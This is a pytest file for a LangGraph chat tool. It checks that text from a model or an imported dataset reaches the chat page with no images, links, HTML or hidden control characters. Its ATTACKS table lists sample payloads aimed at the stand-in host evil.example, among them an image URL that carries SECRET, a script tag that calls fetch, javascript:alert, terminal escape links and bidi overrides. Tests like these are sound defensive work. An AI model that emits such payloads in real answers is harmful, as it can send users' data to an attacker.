"""What a model or a dataset says comes into the conversation as text: no image, no link, no HTML, nothing hidden."""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from finetune_coverage.graph.build import build_graph
from finetune_coverage.tools.dataset.importer import import_files
from finetune_coverage.tools.models.scripted import ScriptedChatModel
from finetune_coverage.tools.services import Services
from langchain_core.messages import AIMessage
from langgraph.checkpoint.memory import InMemorySaver
from markdown_it import MarkdownIt

EVIL = "evil.example"
ATTACKS = {
    "an image": f"It is low. ![chart](https://{EVIL}/a.png?q=SECRET)",
    "a link": f"See [the manual](https://{EVIL}/x).",
    "a link by reference": f"See [the manual][1].\n\n[1]: https://{EVIL}/x",
    "an image by reference": f"![a][b]\n\n[b]: //{EVIL}/x",
    "a link in angle brackets": f"See <https://{EVIL}/x>.",
    "a bare link": f"See https://{EVIL}/x or www.{EVIL}/x or //{EVIL}/x.",
    "another scheme": f"See javascript:alert(1) or ftp://{EVIL}/x.",
    "mail": f"Write to help@{EVIL} or mailto:help@{EVIL}.",
    "HTML": f'<img src="https://{EVIL}/x"><a href="//{EVIL}">x</a><script>fetch("//{EVIL}")</script>',
    "an escape before it": f"\\\\[x](https://{EVIL}/x) and \\![x](https://{EVIL}/x)",
    "an entity": f"&lsqb;x&rsqb;(https&colon;//{EVIL}/x) https&colon;&sol;&sol;{EVIL}/x &lt;img src=x&gt;",
    "an image in a link": f"[![x](https://{EVIL}/i)](https://{EVIL}/l)",
    "a formula": f"$\\href{{https://{EVIL}}}{{x}}$",
    "in a table": f"| a |\n|---|\n| ![x](https://{EVIL}/x) |",
    "a terminal link": f"\x1b]8;;https://{EVIL}\x1b\\\\here\x1b]8;;\x1b\\\\",
    "turned around": "\u202eelpmaxe\u202c \x00\x9b",
}


def rendered(markdown: str) -> str:
    """As a chat page renders it: HTML allowed, and addresses made links."""
    return MarkdownIt("gfm-like", {"html": True, "linkify": False}).render(markdown)


def check(said: str) -> None:
    html = rendered(said)
    assert not re.search(r"<(img|a|script|iframe)\b", html, re.IGNORECASE), html
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", said)
    # A page may make a link of what looks like an address, entities read.
    assert not re.search(rf"(https?:|www\.|ftp:|mailto:|@)[^ ]*{EVIL}", html, re.IGNORECASE), html


@pytest.mark.slow
async def test_an_answer_by_a_model(chat: Any, model: ScriptedChatModel, subtests: pytest.Subtests) -> None:
    await chat.new("hi")
    for name, attack in ATTACKS.items():
        with subtests.test(name):
            model.queue[:] = [AIMessage(f"MODEL {attack} END")]
            said = await chat.answer("warum ist technical issues so schwach")
            assert "MODEL" in said and "END" in said  # else the facts were shown, and nothing was tried
            check(said)
            asked = await chat.asked()
            assert asked is not None
            check(asked["action_requests"][0]["description"])


@pytest.mark.slow
@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
async def test_text_of_the_dataset(
    empty_services: Services, make_chat: Callable[..., Any], tmp_path: Path, writing: Any, attack: str
) -> None:
    """In a topic's name and in a record that is shown; a bare address is shown as what it is."""
    records = [writing.record("billing_questions", number) for number in range(12)]
    hostile = writing.record("technical_issues", 0)
    hostile["topic"] = f"odd {attack}"
    hostile["messages"][0]["content"] = f"START {attack}"
    file = tmp_path / "hostile.jsonl"
    file.write_text("\n".join(json.dumps(one) for one in [*records, hostile]) + "\n", encoding="utf-8")
    import_files(empty_services.store, "wf-1", [file])
    chat = make_chat(build_graph(empty_services, checkpointer=InMemorySaver()))
    told = [await chat.new("hi"), await chat.answer("show me the records of odd")]
    told.append(await chat.answer("review the records of the smallest topic"))
    told.append(json.dumps(await chat.asked(), ensure_ascii=False))
    for said in told[:3]:
        html = rendered(said)
        assert not re.search(r"<(img|a|script|iframe)\b", html, re.IGNORECASE), html
        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e]", said)


async def test_what_the_code_said_may_be_said_again_and_markdown_stays(
    chat: Any, model: ScriptedChatModel
) -> None:
    await chat.new("hi")
    model.queue.append(AIMessage("**Es gibt 8**:\n\n- von mir, می\u200cخواهم\n\n| a |\n|---|\n| 8 |"))
    said = await chat.answer("warum ist technical issues so schwach")
    html = rendered(said)
    assert "<strong>Es gibt 8</strong>" in html and "<table>" in html and "<li>" in html
    assert "می\u200cخواهم" in said
